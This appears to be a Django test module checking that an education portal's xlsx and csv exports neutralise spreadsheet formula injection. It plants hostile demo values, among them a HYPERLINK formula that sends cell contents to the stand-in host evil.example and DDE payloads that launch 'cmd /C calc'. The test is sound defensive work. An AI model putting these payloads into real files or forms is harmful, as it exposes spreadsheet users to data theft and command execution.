"""Exports are data (issue 15.3) and never formulas (issue 13.3), over every export of the
portal, as a coordinator, with hostile names planted in the demo data: every list page's
``?export=xlsx`` (found by walking the URL patterns), the school's results workbook, the
spread and effectiveness sheets, participation, the attendance list, the roadmap template,
the results template and the import error file (xlsx and csv)."""

from __future__ import annotations

import csv
import datetime
import io
import re
import tempfile
from pathlib import Path

from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from core.generic import ObjectListView
from core.xlsx import DATE_FORMAT, DATETIME_FORMAT, FLOAT_FORMAT, FORMULA_PREFIXES, INT_FORMAT, TIME_FORMAT

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Иванова")'
HOSTILE = {
    "school": HYPERLINK,
    "order": "@SUM(1+1)*cmd|' /C calc'!A0",
    "event": "+cmd|' /C calc'!A0",
    "audience": "\t=1+1",
    "person": HYPERLINK,
    "position": "-2+3+cmd|' /C calc'!A0",
    "material": "=1+1",
    "recommendation": "@SUM(A1)",
    "owner": '\r=HYPERLINK("http://evil.example")',
    "curator": "=Злоумышленник",
    "activity": "-2+3",
}
ROOT = Path(__file__).resolve().parents[2]
# Every module that writes a spreadsheet, and how many times: a new export must be added to
# ``export_urls`` below (and here), so that this test keeps covering every export.
WRITERS = {
    "assessment/fileformat.py": 1,  # the results template
    "assessment/views.py": 5,  # the school's workbook (built, sent), spread, effectiveness, the results template
    "core/generic.py": 1,  # every list page's ?export=xlsx
    "core/tabular.py": 2,  # every import's error file (results, task plans, context) and checked-import template
    "events/views.py": 2,  # attendance list, participation
    "regional/views.py": 2,  # the comparison of municipalities, results by municipality
    "roadmaps/xlsx.py": 1,  # the roadmap template
    "socialcontext/views.py": 1,  # the context data as a context file
}
WRITER_CALL = re.compile(r"\b(?:workbook_bytes|xlsx_response|xlsx_file_response)\(")
LOOKS_LIKE = {
    "a boolean as text": re.compile(r"^(True|False)$"),
    "a number as text": re.compile(r"^[−-]?\d+[.,]\d+$"),
    "a timestamp as text": re.compile(r"^\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}"),
    "an ISO date as text": re.compile(r"^\d{4}-\d{2}-\d{2}$"),
    "several values in one cell": re.compile(r"^[\[{]'"),
}


def plant_hostile_data(municipality, coordinator) -> dict:
    """Hostile names in the demo's Kamensk-Uralsky: a school, an order, an event with a
    registered person, a material, a recommendation, a curator, a roadmap activity and a
    results file that fails; returns what the exports are asked about."""
    from django.utils import timezone

    from accounts.models import Role, User
    from assessment.services import import_file
    from core.years import current_academic_year
    from curators.models import CuratorAssignment, Recommendation, Visit
    from events.models import Event, EventFormat, Material, MaterialKind, Registration
    from roadmaps.models import Activity
    from schools.models import Order, School

    lyceum = User.objects.get(username="school").school
    School.objects.create(
        municipality=municipality, code="6601999", name=HOSTILE["school"], short_name=HOSTILE["school"]
    )
    Order.objects.create(
        municipality=municipality,
        region=municipality.region,
        number="-1",
        date=timezone.localdate(),
        issuer="Управление образования",
        title=HOSTILE["order"],
    )
    now = timezone.now()
    event = Event.objects.create(
        municipality=municipality,
        host_school=lyceum,
        format=EventFormat.SEMINAR,
        title=HOSTILE["event"],
        audience=HOSTILE["audience"],
        start=now - datetime.timedelta(days=3, hours=2),
        end=now - datetime.timedelta(days=3),
    )
    Registration.objects.create(
        event=event, school=lyceum, full_name=HOSTILE["person"], position=HOSTILE["position"], attended=True
    )
    Material.objects.create(
        municipality=municipality, school=lyceum, title=HOSTILE["material"], kind=MaterialKind.values[0], year=2026
    )
    curator = User.objects.create(
        username="hostile_curator", role=Role.CURATOR, last_name=HOSTILE["curator"], first_name="Ева", school=lyceum
    )
    target = municipality.schools.exclude(pk=lyceum.pk).order_by("sort_name").first()
    CuratorAssignment.objects.create(curator=curator, school=target, year=current_academic_year())
    visit = Visit.objects.create(school=lyceum, curator=curator, kind="consultation", date=timezone.localdate())
    Recommendation.objects.create(
        visit=visit, text=HOSTILE["recommendation"], owner_text=HOSTILE["owner"], due_date=timezone.localdate()
    )
    activity = Activity.objects.filter(task__goal__roadmap__school__municipality=municipality).order_by("pk").first()
    activity.title = HOSTILE["activity"]
    activity.save(update_fields=["title"])
    failed = {}
    for ext in ("xlsx", "csv"):
        header = ["Код ОО", "Учебный год", "Процедура", "Предмет", "Класс", "Код участника", "Первичный балл"]
        row = [HYPERLINK, "2025/2026", "ВПР", "@SUM(A1)", 5, "-2+3", "=1+1"]
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / f"hostile.{ext}"
            if ext == "csv":
                buf = io.StringIO()
                csv.writer(buf, delimiter=";").writerows([header, row])
                path.write_text(buf.getvalue(), encoding="utf-8")
            else:
                from openpyxl import Workbook

                wb = Workbook()
                wb.active.append(header)
                for c, value in enumerate(row, start=1):
                    wb.active.cell(row=2, column=c).value = value
                    wb.active.cell(row=2, column=c).data_type = "s"
                wb.save(path)
            batch = import_file(str(path), user=coordinator)
        assert batch.status == "failed", batch.status
        failed[ext] = batch.pk
    return {"event": event.pk, "roadmap": activity.task.goal.roadmap_id, "failed": failed}


def _walk(patterns, prefix=""):
    for p in patterns:
        if isinstance(p, URLResolver):
            yield from _walk(p.url_patterns, prefix + str(p.pattern))
        elif isinstance(p, URLPattern):
            yield prefix + str(p.pattern), p


def list_export_urls() -> list[str]:
    """``?export=xlsx`` of every list page (an ObjectListView without URL arguments)."""
    urls = []
    for route, pattern in _walk(get_resolver().url_patterns):
        view = getattr(pattern.callback, "view_class", None)
        if view and issubclass(view, ObjectListView) and "<" not in route:
            urls.append(f"/{route}?export=xlsx")
    return sorted(urls)


def problems_of_sheet(name: str, sheet) -> list[str]:
    problems = []
    for row in sheet.iter_rows():
        for cell in row:
            value = cell.value
            where = f"{name} {sheet.title}!{cell.coordinate}"
            if value is None:
                continue
            if cell.data_type == "f":
                problems.append(f"{where}: a formula {value!r}")
            elif isinstance(value, str):
                if value.startswith(FORMULA_PREFIXES):
                    problems.append(f"{where}: text that may start a formula {value!r}")
                for what, pattern in LOOKS_LIKE.items():
                    if pattern.search(value) and not (cell.row > 1 and _is_code_column(sheet, cell)):
                        problems.append(f"{where}: {what} {value!r}")
            elif isinstance(value, bool):
                problems.append(f"{where}: a raw boolean")
            elif isinstance(value, datetime.datetime):
                if cell.number_format not in (DATE_FORMAT, DATETIME_FORMAT, TIME_FORMAT):
                    problems.append(f"{where}: a date without a date format ({cell.number_format})")
            elif isinstance(value, int | float) and cell.number_format not in (INT_FORMAT, FLOAT_FORMAT):
                problems.append(f"{where}: a number without a number format ({cell.number_format})")
    return problems


def _is_code_column(sheet, cell) -> bool:
    header = str(sheet.cell(row=1, column=cell.column).value or "")
    return header.lower().startswith(("код", "id"))


class ExportChecks:
    """Mixed into the demo test case (tests/test_demo_portal.py)."""

    def export_urls(self) -> list[str]:
        h = self.hostile
        return [
            *list_export_urls(),
            f"/assessment/school/{self.lyceum.pk}/?export=xlsx",
            "/assessment/?export=spread",
            "/assessment/?export=effect",
            "/events/participation/?export=xlsx",
            f"/events/{h['event']}/attendance.xlsx",
            f"/roadmaps/{h['roadmap']}/export/",
            "/assessment/imports/template.xlsx",
            f"/assessment/imports/{h['failed']['xlsx']}/errors/",
            "/socialcontext/imports/template.xlsx",
            "/skills/imports/template.xlsx",
        ]

    # Read by the regional coordinator (the municipal coordinator's scope has no region).
    regional_export_urls = ["/regional/?export=xlsx", "/regional/results/?export=xlsx"]

    def test_every_writer_is_covered(self):
        found = {}
        for path in ROOT.rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if rel.startswith((".venv/", "tests/", "bench/", "node_modules/")) or rel == "core/xlsx.py":
                continue
            n = len(WRITER_CALL.findall(path.read_text(encoding="utf-8")))
            if n:
                found[rel] = n
        self.assertEqual(found, WRITERS, "a new export: add it to tests/demo/exports.py (WRITERS and export_urls)")

    def test_every_export_is_data_and_never_a_formula(self):
        self.assertGreaterEqual(len(list_export_urls()), 20)
        problems, texts, booleans, dates = [], [], 0, 0
        from accounts.models import User

        region = User.objects.get(username="region")
        readers = [(url, self.coordinator) for url in self.export_urls()]
        readers += [(url, region) for url in self.regional_export_urls]
        for url, reader in readers:
            self.client.force_login(reader)
            response = self.client.get(url)
            self.assertEqual(response.status_code, 200, url)
            self.assertIn("spreadsheetml", response["Content-Type"], url)
            book = load_workbook(io.BytesIO(response.content))
            for sheet in book.worksheets:
                problems += problems_of_sheet(url, sheet)
                for row in sheet.iter_rows(values_only=True):
                    texts += [v for v in row if isinstance(v, str)]
                    booleans += sum(v in ("Да", "Нет") for v in row)
                    dates += sum(isinstance(v, datetime.datetime) for v in row)
        self.assertEqual(problems, [], "\n".join(problems[:40]))
        # The hostile names are there, as text: neutralised with a leading quote.
        for key, value in HOSTILE.items():
            self.assertTrue(any(t.startswith("'" + value) for t in texts), f"{key}: {value!r} not in any export")
        self.assertGreater(booleans, 0, "booleans read «Да» / «Нет»")
        self.assertGreater(dates, 0, "dates are dates")

    def test_import_error_file_as_csv_is_neutralised(self):
        response = self.client.get(f"/assessment/imports/{self.hostile['failed']['csv']}/errors/")
        self.assertEqual(response.status_code, 200)
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        cells = [c for row in rows for c in row]
        self.assertIn("'" + HYPERLINK, cells)
        self.assertEqual([c for c in cells if c.startswith(FORMULA_PREFIXES)], [])

    def test_typed_cells_of_the_schools_table(self):
        """The working table's xlsx: the index a number with its format, the last visit a date."""
        response = self.client.get("/schools/?export=xlsx")
        sheet = load_workbook(io.BytesIO(response.content)).active
        headers = [c.value for c in sheet[1]]
        index = next(i for i, h in enumerate(headers, start=1) if h.startswith("Индекс"))
        visit = headers.index("Последний визит") + 1
        lyceum = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(row=r, column=1).value == "Лицей № 9")
        cell = sheet.cell(row=lyceum, column=index)
        self.assertIsInstance(cell.value, float)
        self.assertEqual(cell.number_format, FLOAT_FORMAT)
        cell = sheet.cell(row=lyceum, column=visit)
        self.assertIsInstance(cell.value, datetime.datetime)
        self.assertEqual(cell.number_format, DATE_FORMAT)
